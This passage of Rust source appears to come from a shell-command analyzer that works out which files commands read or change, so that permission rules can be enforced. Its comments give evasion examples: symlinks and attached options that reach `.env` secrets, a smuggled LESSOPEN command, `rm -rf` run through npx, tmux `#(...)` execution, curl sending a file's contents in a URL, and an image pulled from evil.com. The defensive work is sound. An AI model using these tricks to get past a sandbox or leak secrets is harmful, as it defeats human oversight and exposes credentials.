                Err(reason) => {
                    all = None;
                    if self.touches {
                        self.uncertain(
                            UncertainKind::Touch(Family::Read),
                            candidate,
                            reason.clone(),
                        );
                        if writes {
                            self.uncertain(UncertainKind::Touch(Family::Edit), candidate, reason);
                        }
                    }
                }
            }
        }
        if let Some(slots) = &slots {
            (operand_count, non_paths) = (slots.operands, 0);
        }
        if self.touches && base == "curl" {
            self.curl_variable_reads(argv);
        }
        if base == "diff" && super::read_only::diff_follows_links(argv) {
            self.add_links_under(&mut all);
        }
        if self.touches && reach == reads::Reach::RecursiveOrHere && operand_count <= non_paths {
            // `grep -r KEY`, `rg KEY`: the working directory.
            if let Some(names) = &names {
                match self.resolve_word_path(".", false, false) {
                    Ok(dirs) => {
                        for path in dirs {
                            self.push(Item::ReadNarrowed {
                                written: ".".into(),
                                path,
                                names: names.clone(),
                            });
                        }
                    }
                    Err(reason) => self.uncertain(UncertainKind::Touch(Family::Read), ".", reason),
                }
            } else if visible_only {
                match self.resolve_word_path(".", false, false) {
                    Ok(dirs) => {
                        for path in dirs {
                            self.push(Item::ReadVisible {
                                written: ".".into(),
                                path,
                                ignores,
                            });
                        }
                    }
                    Err(reason) => self.uncertain(UncertainKind::Touch(Family::Read), ".", reason),
                }
            } else {
                self.touch_inside(&WordVal::literal("."));
            }
        }
        if self.touches && recursive && reads::follows_links(base, argv) {
            self.links_followed(argv, operand_count <= non_paths);
        }
        if matches!(base, "cd" | "pushd" | "chdir") && operand_count == 0 {
            return None;
        }
        if writes {
            self.written_into_directory(base, argv);
        }
        if super::read_only::reads_files(base)
            && let Some(none) = all.as_mut().filter(|a| a.is_empty())
        {
            // `ls`, `git status`, `grep -r x`: the directory it runs in.
            match self.resolve_word_path(".", false, false) {
                Ok(dirs) => none.extend(dirs),
                Err(_) => return None,
            }
        }
        all
    }

    /// A program that follows the links it meets inside the directories it
    /// reads whole (`grep -R`, `rg -L`, `tar -h`, `zip -r`) reads where
    /// they lead: each link's target meets the Read rules as a directory
    /// read whole (`d/e -> ../.env`, `docs/h -> ~`). With `here`, the
    /// working directory is read (`rg -L KEY`).
    fn links_followed(&mut self, argv: &[WordVal], here: bool) {
        if !self.resolver.uses_file_system() {
            return;
        }
        let mut dirs: Vec<(String, std::path::PathBuf)> = Vec::new();
        let words = argv[1..]
            .iter()
            .filter_map(|w| Some((w.literal.clone()?, w.tilde)))
            .filter(|(l, _)| !l.starts_with('-'));
        let named: Vec<(String, bool)> = if here {
            vec![(".".to_owned(), false)]
        } else {
            words.collect()
        };
        for (lit, tilde) in named {
            if let Ok(paths) = self.resolve_word_path(&lit, tilde, false) {
                dirs.extend(
                    paths
                        .into_iter()
                        .filter(|p| p.canonical.is_dir())
                        .map(|p| (lit.clone(), p.canonical)),
                );
            }
        }
        for (lit, dir) in dirs {
            match reads::links_under(&dir, 20_000) {
                Some(links) => {
                    for target in links {
                        self.push(Item::Touch {
                            family: Family::Read,
                            written: lit.clone(),
                            path: crate::paths::ResolvedPath {
                                lexical: target.clone(),
                                canonical: target,
                            },
                            recursive: true,
                        });
                    }
                }
                None => self.uncertain(
                    UncertainKind::Touch(Family::Read),
                    &lit,
                    "it follows the links under a directory too large to look through for them",
                ),
            }
        }
    }

    /// diff follows the links inside the directories it compares: where
    /// they lead is read too (so a link out of the working directories
    /// keeps it from the read-only set). Unknown when too many to look at.
    fn add_links_under(&self, all: &mut Option<Vec<crate::paths::ResolvedPath>>) {
        let Some(named) = all.as_mut() else {
            return;
        };
        if !self.resolver.uses_file_system() {
            return;
        }
        let dirs: Vec<_> = named
            .iter()
            .filter(|p| p.canonical.is_dir())
            .map(|p| p.canonical.clone())
            .collect();
        for dir in dirs {
            match reads::links_under(&dir, 20_000) {
                Some(links) => {
                    named.extend(links.into_iter().map(|t| crate::paths::ResolvedPath {
                        lexical: t.clone(),
                        canonical: t,
                    }))
                }
                None => {
                    *all = None;
                    return;
                }
            }
        }
    }

    /// Whether the command runs where it started (no `cd` before it).
    /// `set -k` (`set -o keyword`, `bash -k`): every `NAME=value` word of a
    /// later command, wherever it stands, goes into that command's
    /// environment (`less f LESSOPEN='|cmd'`), which the analysis reads
    /// as an operand.
    fn keyword_option(&mut self, base: &str, argv: &[WordVal]) {
        let mut after_o = false;
        let mut on = false;
        for w in &argv[1..] {
            let Some(l) = w.literal.as_deref() else {
                break;
            };
            if after_o {
                on |= l == "keyword";
                after_o = false;
                continue;
            }
            if l == "--" || !(l.starts_with('-') || l.starts_with('+')) || l.starts_with("--") {
                break;
            }
            let letters = &l[1..];
            on |= base != "shopt" && l.starts_with('-') && letters.contains('k');
            on |= letters.strip_prefix('o').is_some_and(|v| v == "keyword");
            after_o = letters.ends_with('o');
        }
        if on {
            let text = self.text(argv);
            self.uncertain(
                UncertainKind::Command,
                &text,
                "`set -k` puts every NAME=value word of a later command into its environment, which can make it run other code",
            );
        }
    }

    /// Whether a pattern in `argv` matches (or may match) a name that the
    /// program would read as an option: a file named `--files0-from=list`
    /// turns `wc *` into a read of what the list names. A pattern that
    /// starts with `-` is an option whatever it matches.
    fn expands_to_option(&self, base: &str, argv: &[WordVal]) -> bool {
        super::read_only::option_like_patterns(base, argv)
            .into_iter()
            .any(|w| {
                let Some(lit) = w.literal.as_deref() else {
                    return true;
                };
                if lit.starts_with('-') {
                    return true;
                }
                // The pattern starts with a wildcard (`*`, `*.txt`, `*/x`):
                // what it matches is a name in the working directory.
                let Cwds::Known(dirs) = &self.cwds else {
                    return true;
                };
                match self.resolve_word_path(lit, w.tilde, true) {
                    Ok(paths) => paths.iter().any(|p| {
                        dirs.iter().any(|d| {
                            p.lexical
                                .strip_prefix(d)
                                .ok()
                                .and_then(|rel| rel.components().next())
                                .is_some_and(|c| c.as_os_str().to_string_lossy().starts_with('-'))
                        })
                    }),
                    Err(_) => true,
                }
            })
    }

    /// The program a path names through a symbolic link, when its name is
    /// not `base`: `./del` linking to `/bin/rm` is rm. A hard link to a
    /// system program, or a copy of one, is that program too (`ln
    /// /usr/bin/rm d2; ./d2 x`, `cp /usr/bin/git g; ./g push`).
    fn linked_program(&self, name: &str, tilde: bool, base: &str) -> Option<String> {
        let paths = self.resolve_word_path(name, tilde, false).ok()?;
        let mut real: Option<String> = None;
        for path in paths {
            let target = std::fs::canonicalize(&path.canonical).ok()?;
            let target = match super::system_programs::same_as(&target) {
                Some(system) => system,
                None => target,
            };
            let target = target.to_str()?.to_string();
            if basename(&target) == base || real.as_ref().is_some_and(|r| *r != target) {
                return None;
            }
            real = Some(target);
        }
        real
    }

    fn in_start_dir(&self) -> bool {
        matches!(&self.cwds, Cwds::Known(dirs) if dirs.len() == 1 && dirs[0] == self.start)
    }

    /// Files a word of a program whose options are not known here may name
    /// in a value attached to something else, each taken as read (deny and
    /// ask Read rules see them; a read-only command reading outside the
    /// working directories needs a rule): after a short option's letter
    /// (`git blame -S.env`, `git diff -O/etc/x`), from the first `.`, `/`
    /// or `~` of a cluster or a long single-dash option on (`make -pf.env`,
    /// `gcc -include.env`, `tar -cT/x`), after `@` (a response file: `gcc
    /// @.env`) and after the `=` of a setting (`git -c
    /// blame.ignoreRevsFile=.env`).
    pub(super) fn attached_reads(&mut self, lit: &str, may_write: bool) {
        let mut found: Vec<&str> = Vec::new();
        if let Some(rest) = lit.strip_prefix('@') {
            found.push(rest);
        } else if let Some(list) = lit
            .strip_prefix("-Wl,")
            .or_else(|| lit.strip_prefix("-Wa,"))
        {
            // `-Wl,-o,FILE`: the linker's (or assembler's) own words.
            for part in list.split(',') {
                found.push(part.strip_prefix("-o").unwrap_or(part));
            }
        } else if let Some((_, value)) = lit.split_once('=') {
            found.push(value);
        } else if let Some(cluster) = lit.strip_prefix('-').filter(|c| !c.starts_with('-')) {
            let tail = cluster.get(1..).unwrap_or_default();
            found.push(tail);
            if let Some(k) = tail.find(['.', '/', '~']).filter(|&k| k > 0) {
                found.push(&tail[k..]);
            }
        }
        for candidate in found {
            let local = local_file_of(candidate);
            let candidate: &str = local.as_deref().unwrap_or(candidate);
            if candidate.is_empty()
                || candidate.len() > 4096
                || candidate.contains("://")
                || is_exempt_device(candidate)
            {
                continue;
            }
            let tilde = candidate.starts_with('~');
            if let Ok(paths) = self.resolve_word_path(candidate, tilde, false) {
                for path in paths {
                    self.push(Item::Touch {
                        family: Family::Read,
                        written: candidate.to_string(),
                        path: path.clone(),
                        recursive: false,
                    });
                    // `gcc -osrc/x`: a program that may change what it is
                    // given may write what an option names, as the
                    // detached `-o src/x` is.
                    if may_write {
                        self.push(Item::Touch {
                            family: Family::MaybeEdit,
                            written: candidate.to_string(),
                            path,
                            recursive: false,
                        });
                    }
                }
            }
        }
    }

    /// curl's `--variable NAME@FILE` (curl 8.3) reads FILE into a variable
    /// the request can send (`--expand-url 'http://h/{{NAME}}'`), as `-d
    /// @FILE` does; `NAME=text` and `%ENV` read no file. A value computed
    /// at run time may name any file.
    fn curl_variable_reads(&mut self, argv: &[WordVal]) {
        let mut k = 1;
        while let Some(w) = argv.get(k) {
            k += 1;
            let value = if w.literal.as_deref() == Some("--variable") {
                k += 1;
                match argv.get(k - 1) {
                    Some(v) => v.clone(),
                    None => break,
                }
            } else if let Some(v) = w
                .literal
                .as_deref()
                .and_then(|l| l.strip_prefix("--variable="))
            {
                WordVal::literal(v)
            } else if w.literal.is_none() && w.raw.contains("--variable=") {
                w.clone()
            } else {
                continue;
            };
            match &value.literal {
                Some(l) => {
                    if let Some((_, file)) = l.split_once('@')
                        && file != "-"
                    {
                        self.attached_reads(&format!("@{file}"), false);
                    }
                }
                None if value.raw.contains('@') || value.raw.contains('$') => self.uncertain(
                    UncertainKind::Touch(Family::Read),
                    &value.raw,
                    "curl --variable reads a file named only at run time",
                ),
                None => {}
            }
        }
    }

    /// A glob the program expands itself, given to a program that may
    /// change what it is given: anything under the pattern's literal
    /// leading directories (`.` for `**/*.ts`).
    fn may_change_under_pattern(&mut self, pattern: &str, tilde: bool) {
        let first_glob = pattern.find(['*', '?', '[']).unwrap_or(pattern.len());
        let dir = match pattern[..first_glob].rfind('/') {
            Some(0) => "/",
            Some(k) => &pattern[..k],
            None => ".",
        };
        let mut dir = WordVal::literal(dir);
        dir.tilde = tilde;
        self.may_change_directory(&dir);
    }

    /// Everything under `dir` is read (`grep -r`, `tar -c`, `find -exec`).
    pub(super) fn touch_inside(&mut self, dir: &WordVal) {
        let Some(lit) = &dir.literal else {
            return self.uncertain(
                UncertainKind::Touch(Family::Read),
                &dir.raw,
                "it reads everything under a directory named only at run time",
            );
        };
        match self.resolve_word_path(lit, dir.tilde, dir.glob) {
            Ok(paths) => {
                for path in paths {
                    self.push(Item::Touch {
                        family: Family::Read,
                        written: lit.clone(),
                        path,
                        recursive: true,
                    });
                }
            }
            Err(reason) => self.uncertain(UncertainKind::Touch(Family::Read), lit, reason),
        }
    }

    /// After `ln` (or `cp -s/-l`, or a move or copy of something that is a
    /// link): remember the operands (resolved against every possible
    /// directory; everything when dynamic), since what lies under them is
    /// unknown until run time.
    /// `ln -s TARGET LINK`: a relative TARGET is read from the link's
    /// directory, not the working directory (`ln -s ../.env d/e` makes
    /// `d/e` the project's `.env`): the file the link will show meets the
    /// Read rules there (the operand as written was checked from here).
    fn symlink_targets(&mut self, argv: &[WordVal]) {
        let mut symbolic = false;
        let mut target_dir: Option<&WordVal> = None;
        let mut operands: Vec<&WordVal> = Vec::new();
        let mut words = argv[1..].iter();
        let mut options_done = false;
        while let Some(w) = words.next() {
            let Some(l) = w.literal.as_deref() else {
                operands.push(w);
                continue;
            };
            if !options_done && l == "--" {
                options_done = true;
            } else if !options_done && (l == "-t" || l == "--target-directory") {
                target_dir = words.next();
            } else if !options_done && l.starts_with("--target-directory=") {
                continue;
            } else if !options_done && l.starts_with("--") {
                symbolic |= l == "--symbolic";
            } else if !options_done && l.starts_with('-') && l.len() > 1 {
                symbolic |= l.contains('s');
            } else {
                operands.push(w);
            }
        }
        if !symbolic {
            return;
        }
        // The links' directory: `-t DIR`, the last operand when it is a
        // directory (or there are several targets), or the last operand's
        // parent; with one operand, the working directory.
        let (targets, dir): (&[&WordVal], Option<String>) =
            match (target_dir, operands.split_last()) {
                (Some(t), _) => (&operands[..], t.literal.clone()),
                (None, Some((last, rest))) if !rest.is_empty() => {
                    let Some(l) = last.literal.clone() else {
                        return;
                    };
                    let is_dir = self
                        .resolve_word_path(&l, last.tilde, false)
                        .is_ok_and(|ps| ps.iter().any(|p| p.canonical.is_dir()));
                    let dir = if is_dir || rest.len() > 1 {
                        l
                    } else {
                        match l.rsplit_once('/') {
                            Some(("", _)) => "/".to_owned(),
                            Some((d, _)) => d.to_owned(),
                            None => ".".to_owned(),
                        }
                    };
                    (rest, Some(dir))
                }
                _ => return,
            };
        let Some(dir) = dir else { return };
        for t in targets {
            let Some(l) = t.literal.as_deref() else {
                continue;
            };
            if l.starts_with('/') || t.tilde || dir == "." {
                continue;
            }
            self.touch(Family::Read, &WordVal::literal(&format!("{dir}/{l}")));
        }
    }

    fn note_relinks(&mut self, base: &str, argv: &[WordVal]) {
        if !RELINKERS.contains(&base) {
            return;
        }
        let mut operands: Vec<crate::paths::ResolvedPath> = Vec::new();
        let mut unknown = false;
        let mut link_option = false;
        for w in &argv[1..] {
            let Some(lit) = &w.literal else {
                unknown = true;
                continue;
            };
            if lit.starts_with("--") {
                link_option |= lit.starts_with("--symbolic-link") || lit == "--link";
                continue;
            }
            if lit.starts_with('-') {
                link_option |= lit.contains('s') || lit.contains('l');
                continue;
            }
            match self.resolve_word_path(lit, w.tilde, w.glob) {
                Ok(paths) => operands.extend(paths),
                Err(_) => unknown = true,
            }
        }
        // rsync copies links as links (-a, -l). A source not there yet may
        // be a link an earlier part moves in (`mv sub x && mv x/up .`); a
        // directory copied whole (`cp -a sub/. .`) brings the links in it.
        let makes_links = base == "ln"
            || base == "rsync"
            || (base == "cp" && link_option)
            || unknown
            || operands
                .iter()
                .any(|p| p.lexical != p.canonical || self.is_relinked(p))
            || (matches!(base, "mv" | "cp" | "install")
                && operands.split_last().is_some_and(|(_, sources)| {
                    sources.iter().any(|p| {
                        std::fs::symlink_metadata(&p.canonical).is_err()
                            || (p.canonical.is_dir()
                                && reads::links_under(&p.canonical, 2_000)
                                    .is_none_or(|l| !l.is_empty()))
                    })
                }));
        if !makes_links {
            return;
        }
        if unknown {
            match &self.cwds {
                Cwds::Known(dirs) => self.relinked.extend(dirs.iter().cloned()),
                Cwds::Unknown => self.relinked.push(PathBuf::from("/")),
            }
        }
        self.relinked
            .extend(operands.into_iter().map(|p| p.lexical));
    }
}

/// The tests and options of `find` whose value is the next word: a word
/// computed at run time there is a value, not an action.
const FIND_TESTS_WITH_VALUE: &[&str] = &[
    "-amin",
    "-anewer",
    "-atime",
    "-cmin",
    "-cnewer",
    "-context",
    "-ctime",
    "-fstype",
    "-gid",
    "-group",
    "-ilname",
    "-iname",
    "-inum",
    "-ipath",
    "-iregex",
    "-iwholename",
    "-links",
    "-lname",
    "-maxdepth",
    "-mindepth",
    "-mmin",
    "-mtime",
    "-name",
    "-newer",
    "-path",
    "-perm",
    "-printf",
    "-regex",
    "-regextype",
    "-samefile",
    "-size",
    "-type",
    "-uid",
    "-used",
    "-user",
    "-wholename",
    "-xtype",
];

/// A program that runs the command it is given in an environment of its
/// own (`npx tsc`, `uv run pytest`, `bundle exec rake`): where the command
/// starts, and the options that take the next word or hold a script.
pub(super) struct Runner {
    /// Words before the options (`uv run`: 2).
    lead: usize,
    /// Options whose value is the next word (unless attached with `=`).
    with_value: &'static [&'static str],
    /// Options whose value is a shell script (`npx -c 'cmd'`).
    script: &'static [&'static str],
    /// The first operand is not the command (`direnv exec DIR cmd`).
    skip_operands: usize,
    /// `docker run`/`create`: its options may give the container files of
    /// this machine (bind mounts, `--env-file`).
    container: bool,
    /// npm's (`npx`, `npm exec`, …): its options may name a registry or a
    /// proxy.
    npm: bool,
}

/// The runner `base` is, with the words it was called with.
fn runner_of(base: &str, argv: &[WordVal]) -> Option<Runner> {
    let sub = argv.get(1).and_then(|w| w.literal.as_deref());
    const NPM: &[&str] = &[
        "-p",
        "--package",
        "-w",
        "--workspace",
        "--prefix",
        "--registry",
        "--userconfig",
        "--cache",
    ];
    let runner = |lead, with_value, script, skip_operands| {
        Some(Runner {
            lead,
            with_value,
            script,
            skip_operands,
            container: false,
            npm: false,
        })
    };
    let npm = |lead, script| runner(lead, NPM, script, 0).map(|r| Runner { npm: true, ..r });
    match (base, sub) {
        ("npx" | "bunx", _) => npm(1, &["-c", "--call"]),
        ("npm", Some("exec" | "x")) => npm(2, &["-c", "--call"]),
        ("yarn" | "pnpm", Some("exec" | "dlx")) => npm(2, &["-c", "--call"]),
        ("bun", Some("x" | "exec")) => npm(2, &[]),
        ("uv", Some("run")) => runner(
            2,
            &[
                "--with",
                "--with-editable",
                "--with-requirements",
                "-p",
                "--python",
                "--env-file",
                "--directory",
                "--project",
                "--package",
                "--extra",
                "--group",
                "--only-group",
                "--no-group",
                "--index",
                "--default-index",
                "--index-url",
                "--extra-index-url",
                "-f",
                "--find-links",
                "--config-file",
                "--cache-dir",
                "--script",
                "--color",
                "--python-preference",
                "--index-strategy",
                "--keyring-provider",
                "--resolution",
                "--prerelease",
                "--exclude-newer",
                "-C",
                "--config-setting",
                "--link-mode",
                "-P",
                "--upgrade-package",
                "--reinstall-package",
                "--refresh-package",
            ],
            &[],
            0,
        ),
        ("uvx", _) => runner(
            1,
            &[
                "--from",
                "--with",
                "-p",
                "--python",
                "--index",
                "--index-url",
                "--directory",
            ],
            &[],
            0,
        ),
        ("poetry" | "pipenv" | "pdm" | "hatch", Some("run")) => {
            runner(2, &["-C", "--directory", "-P", "--project"], &[], 0)
        }
        ("bundle", Some("exec")) => runner(2, &["--gemfile"], &[], 0),
        ("conda" | "mamba" | "micromamba", Some("run")) => {
            runner(2, &["-n", "--name", "-p", "--prefix", "--cwd"], &[], 0)
        }
        // `mise x python@3.12 node -- CMD`: the tools, then the command
        // after `--`.
        ("mise" | "rtx", Some("exec" | "x")) => runner(
            2,
            &["-C", "--cd", "-j", "--jobs"],
            &["-c", "--command"],
            usize::MAX,
        ),
        ("direnv", Some("exec")) => runner(2, &[], &[], 1),
        ("nix", Some("develop" | "shell")) => runner(2, &[], &["-c", "--command"], 0),
        ("nix-shell", _) => runner(
            1,
            &["-p", "--packages", "-I", "-A", "--attr"],
            &["--run", "--command"],
            usize::MAX,
        ),
        // A container's or another namespace's command: its files may be
        // these (bind mounts, `--host`), so it meets the rules too.
        ("docker" | "podman", Some("exec")) => runner(2, CONTAINER_EXEC, &[], 1),
        ("docker" | "podman", Some("run" | "create")) => {
            runner(2, CONTAINER_RUN, &[], 1).map(|r| Runner {
                container: true,
                ..r
            })
        }
        ("kubectl", Some("exec")) => runner(2, KUBECTL_EXEC, &[], 1),
        ("podman", Some("unshare")) => runner(2, &[], &[], 0),
        ("ip", Some("netns")) if argv.get(2).and_then(|w| w.literal.as_deref()) == Some("exec") => {
            runner(3, &[], &[], 1)
        }
        ("flatpak-spawn" | "distrobox-host-exec", _) => runner(1, &[], &[], 0),
        ("toolbox", Some("run")) => runner(
            2,
            &["-c", "--container", "-d", "--distro", "-r", "--release"],
            &[],
            0,
        ),
        ("vagrant", Some("ssh")) => runner(2, &[], &["-c", "--command"], usize::MAX),
        _ => None,
    }
}

/// `docker exec`'s options that take a value.
const CONTAINER_EXEC: &[&str] = &[
    "-e",
    "--env",
    "--env-file",
    "-u",
    "--user",
    "-w",
    "--workdir",
    "--detach-keys",
];

/// `kubectl exec`'s options that take a value (its global ones too).
const KUBECTL_EXEC: &[&str] = &[
    "-c",
    "--container",
    "-n",
    "--namespace",
    "-f",
    "--filename",
    "--pod-running-timeout",
    "--context",
    "--kubeconfig",
    "--cluster",
    "--user",
    "-s",
    "--server",
    "--token",
    "--as",
    "--request-timeout",
];

/// `docker run`'s options that take a value.
const CONTAINER_RUN: &[&str] = &[
    "-v",
    "--volume",
    "-e",
    "--env",
    "-p",
    "--publish",
    "-w",
    "--workdir",
    "-u",
    "--user",
    "-h",
    "--hostname",
    "-l",
    "--label",
    "-a",
    "--attach",
    "-m",
    "--memory",
    "-c",
    "--cpu-shares",
    "--name",
    "--network",
    "--net",
    "--entrypoint",
    "--env-file",
    "--cap-add",
    "--cap-drop",
    "--security-opt",
    "--pid",
    "--ipc",
    "--uts",
    "--userns",
    "--cgroupns",
    "--mount",
    "--device",
    "--platform",
    "--gpus",
    "--restart",
    "--cpus",
    "--shm-size",
    "--add-host",
    "--dns",
    "--tmpfs",
    "--ulimit",
    "--group-add",
    "--pull",
    "--cidfile",
    "--log-driver",
    "--log-opt",
    "--expose",
    "--link",
    "--volumes-from",
    "--stop-signal",
    "--stop-timeout",
    "--runtime",
    "--label-file",
    "--health-cmd",
    "--health-interval",
    "--health-retries",
    "--health-timeout",
    "--memory-swap",
    "--memory-reservation",
    "--cpuset-cpus",
    "--cpu-period",
    "--cpu-quota",
    "--blkio-weight",
    "--dns-search",
    "--dns-option",
    "--domainname",
    "--mac-address",
    "--ip",
    "--ip6",
    "--isolation",
    "--kernel-memory",
    "--oom-score-adj",
    "--pids-limit",
    "--storage-opt",
    "--sysctl",
    "--volume-driver",
    "--detach-keys",
    "--annotation",
    "--cgroup-parent",
    "--device-cgroup-rule",
];

impl Analyzer {
    /// A package runner: the command it runs meets the deny and ask rules
    /// (`npx -c 'rm -rf x'`, `uv run rm x`), but needs no allow rule of its
    /// own, since the runner's command was allowed as written (`allow
    /// Bash(uv run pytest *)` stays enough for `uv run pytest`).
    fn package_runner(&mut self, argv: &[WordVal], r: Runner) {
        self.emit(argv);
        if r.npm {
            // The command's own options are read too: more, never less.
            self.npm_hosts(&argv[1..]);
        }
        let mut i = r.lead;
        let mut operands = 0;
        let mut start = None;
        while let Some(w) = argv.get(i) {
            let Some(l) = w.literal.as_deref() else {
                return self.may_run(
                    argv,
                    "a word computed at run time may be the command it runs, or an option",
                );
            };
            if l == "--" {
                start = Some(i + 1);
                break;
            }
            if l.starts_with('-') && l.len() > 1 {
                let (name, attached) = match l.split_once('=') {
                    Some((n, v)) if n.starts_with("--") => (n, Some(v)),
                    _ => (l, None),
                };
                let value = attached
                    .map(WordVal::literal)
                    .or_else(|| argv.get(i + 1).cloned());
                if r.script.contains(&name) {
                    match value.and_then(|v| v.literal) {
                        Some(script) => {
                            self.runner_depth += 1;
                            self.nested_script(argv, &script);
                            self.runner_depth -= 1;
                        }
                        None => self.may_run(argv, "it runs a script computed at run time"),
                    }
                    return;
                }
                let takes_next = attached.is_none() && r.with_value.contains(&name);
                if r.container && self.touches {
                    let value = if takes_next {
                        argv.get(i + 1).cloned()
                    } else {
                        attached.map(WordVal::literal)
                    };
                    self.container_option(name, value.as_ref());
                }
                i += if takes_next { 2 } else { 1 };
                continue;
            }
            if operands < r.skip_operands {
                if r.container {
                    // `docker run evil.com/img` pulls the image from there.
                    self.image_registry(l);
                }
                operands += 1;
                i += 1;
                continue;
            }
            start = Some(i);
            break;
        }
        let Some(start) = start.filter(|&s| s < argv.len()) else {
            return;
        };
        let mut command = argv[start..].to_vec();
        if r.npm
            && let Some(name) = command[0].literal.as_deref().and_then(npm_package_name)
        {
            // `npx npm@10 publish` runs npm's `npm`, as `npx npm publish`.
            command[0] = WordVal::literal(&name);
        }
        self.outer.push(self.text(argv));
        self.runner_depth += 1;
        self.argv(command);
        self.runner_depth -= 1;
        self.outer.pop();
    }
}

/// The program a versioned npm spec names, as npm's runners run the
/// package's bin of its own name: `npm@10` and `npm@latest` are `npm`,
/// `@scope/x@1` is `x`, an alias `a@npm:npm@10` or `npm:npm@10` is `npm`.
/// `None` for a spec with no version or tag.
fn npm_package_name(spec: &str) -> Option<String> {
    let spec = spec.rsplit_once("npm:").map_or(spec, |(_, real)| real);
    let rest = match spec.strip_prefix('@') {
        Some(r) => r.split_once('/')?.1,
        None => spec,
    };
    let (name, _) = rest.split_once('@')?;
    Some(name.to_string())
}

impl Analyzer {
    /// An option of `docker run` (or `create`) that gives the container a
    /// directory or file of this machine: a bind mount (`-v SRC:DST`,
    /// `--mount type=bind,src=SRC`) lets what runs inside read everything
    /// under SRC, and change it unless it is read-only; `--env-file` is
    /// read. A named volume (`-v data:/var/lib`) is no path here.
    fn container_option(&mut self, name: &str, value: Option<&WordVal>) {
        let Some(value) = value else { return };
        let Some(v) = value.literal.as_deref() else {
            if matches!(name, "-v" | "--volume" | "--mount" | "--env-file") {
                let reason =
                    "a directory of this machine given to the container is named only at run time";
                self.uncertain(UncertainKind::Touch(Family::Read), &value.raw, reason);
                self.uncertain(UncertainKind::Touch(Family::Edit), &value.raw, reason);
            }
            return;
        };
        let (source, read_only) = match name {
            "--env-file" => return self.touch(Family::Read, value),
            "-v" | "--volume" => {
                let mut parts = v.split(':');
                let source = parts.next().unwrap_or_default();
                // `-v /data` alone is an anonymous volume at the
                // container's /data, nothing of this machine.
                if parts.next().is_none() {
                    return;
                }
                let read_only = parts
                    .next()
                    .is_some_and(|o| o.split(',').any(|o| o == "ro" || o == "readonly"));
                (source.to_string(), read_only)
            }
            "--mount" => {
                let mut source = None;
                let mut bind = false;
                let mut read_only = false;
                for field in v.split(',') {
                    let (k, val) = field.split_once('=').unwrap_or((field, "true"));
                    match k {
                        "type" => bind = val == "bind",
                        "source" | "src" => source = Some(val.to_string()),
                        "readonly" | "ro" => read_only = matches!(val, "true" | "1"),
                        _ => {}
                    }
                }
                match source {
                    Some(s) if bind => (s, read_only),
                    _ => return,
                }
            }
            _ => return,
        };
        // A volume's name has no `/` and starts with no `.` or `~`.
        if source.is_empty() || !(source.contains('/') || source.starts_with(['.', '~'])) {
            return;
        }
        let mut dir = WordVal::literal(&source);
        dir.tilde = source.starts_with('~');
        self.touch_inside(&dir);
        if !read_only {
            self.may_change_directory(&dir);
        }
    }

    /// A directory given to something that may change any file in it.
    pub(super) fn may_change_directory(&mut self, dir: &WordVal) {
        let Some(lit) = dir.literal.as_deref() else {
            return;
        };
        if let Ok(paths) = self.resolve_word_path(lit, dir.tilde, false) {
            for path in paths {
                self.push(Item::Touch {
                    family: Family::MaybeEdit,
                    written: lit.to_string(),
                    path,
                    recursive: true,
                });
            }
        }
    }
}

/// Whether `tmux` or `screen` is asked to run a command or type into a
/// shell, rather than to list or show what there is.
fn terminal_multiplexer_runs(base: &str, argv: &[WordVal]) -> bool {
    const TMUX_RUNS: &[&str] = &[
        "new-session",
        "new",
        "new-window",
        "neww",
        "split-window",
        "splitw",
        "send-keys",
        "send",
        "respawn-pane",
        "respawnp",
        "respawn-window",
        "respawnw",
        "run-shell",
        "run",
        "if-shell",
        "if",
        "pipe-pane",
        "pipep",
        "source-file",
        "source",
        "display-popup",
        "popup",
        "command-prompt",
        "confirm-before",
        "confirm",
        "bind-key",
        "bind",
        "set-hook",
        "set-option",
        "set",
        "set-environment",
        "setenv",
        // A buffer pasted into a pane is typed into its shell.
        "paste-buffer",
        "pasteb",
        "set-buffer",
        "setb",
        "load-buffer",
        "loadb",
        // Menus and choosers run the commands they are given.
        "display-menu",
        "menu",
        "choose-tree",
        "choose-buffer",
        "choose-client",
        "set-window-option",
        "setw",
    ];
    let words = || argv[1..].iter().map(|w| w.literal.as_deref());
    let has = |names: &[&str]| words().any(|w| w.is_some_and(|w| names.contains(&w)));
    match base {
        // No command at all starts a new session; any word computed at run
        // time may be one that runs. `#(…)` in any format is a shell
        // command the server runs (`tmux display -p '#(rm x)'`, `ls -F`).
        "tmux" | "tmate" => {
            argv.len() == 1
                || words().any(|w| {
                    w.is_none_or(|w| TMUX_RUNS.contains(&w) || w.contains(';') || w.contains("#("))
                })
        }
        "screen" => !words().all(|w| matches!(w, Some("-ls" | "-list" | "-v" | "--version"))),
        // Text typed into another terminal's shell, or a program started
        // there.
        "kitty" | "kitten" => has(&["send-text", "send-key", "launch", "run"]),
        "wezterm" => has(&["send-text", "spawn"]),
        "zellij" => has(&["write-chars", "write", "run", "new-pane"]),
        "xdotool" => has(&["type", "key", "exec"]),
        _ => false,
    }
}

/// Whether a file that starts with `head` is a script the shell would run
/// as shell code: a `#!` naming sh, bash, dash, ksh or mksh (directly or
/// through `env`, `env -S`), or text with no `#!` at all.
fn is_shell_script(head: &[u8]) -> bool {
    let Some(rest) = head.strip_prefix(b"#!") else {
        // No interpreter line: bash runs a text file itself.
        return !head.contains(&0) && std::str::from_utf8(head).is_ok();
    };
    let line = rest.split(|b| *b == b'\n').next().unwrap_or_default();
    let Ok(line) = std::str::from_utf8(line) else {
        return false;
    };
    let mut words = line.split_whitespace();
    let mut program = words.next().map(basename).unwrap_or_default();
    if program == "env" {
        program = words
            .find(|w| !w.starts_with('-') && !w.contains('='))
            .map(basename)
            .unwrap_or_default();
    }
    matches!(program, "sh" | "bash" | "dash" | "ksh" | "mksh" | "posh")
}

/// Shells installed under another name than the one tack reads them by.
const SHELL_NAMES: &[(&str, &str)] = &[
    // Restricted bash forbids `cd` and redirections, not running programs.
    ("rbash", "bash"),
    ("bash-static", "bash"),
    ("sh.distrib", "sh"),
    ("lksh", "mksh"),
    ("oksh", "ksh"),
    ("pdksh", "ksh"),
    ("ksh93", "ksh"),
];

/// The program a command name runs, as the analysis reads it: GNU tools
/// installed with a `g` prefix (`gtimeout`), and a shell or an interpreter
/// under another installed name (`rbash`, `tclsh8.6`, `perl5.36.0`,
/// `perl5.36-x86_64-linux-gnu`, `php8.2`), as the program it is, so that
/// the code it is given is read as that program's. Other names as written.
fn program_name(name: &str) -> String {
    let name = wrappers::gnu_name(name);
    let shell = |n: &str| {
        SHELL_NAMES
            .iter()
            .find(|(alias, _)| *alias == n)
            .map(|(_, s)| *s)
    };
    let known = |n: &str| {
        SHELLS.contains(&n)
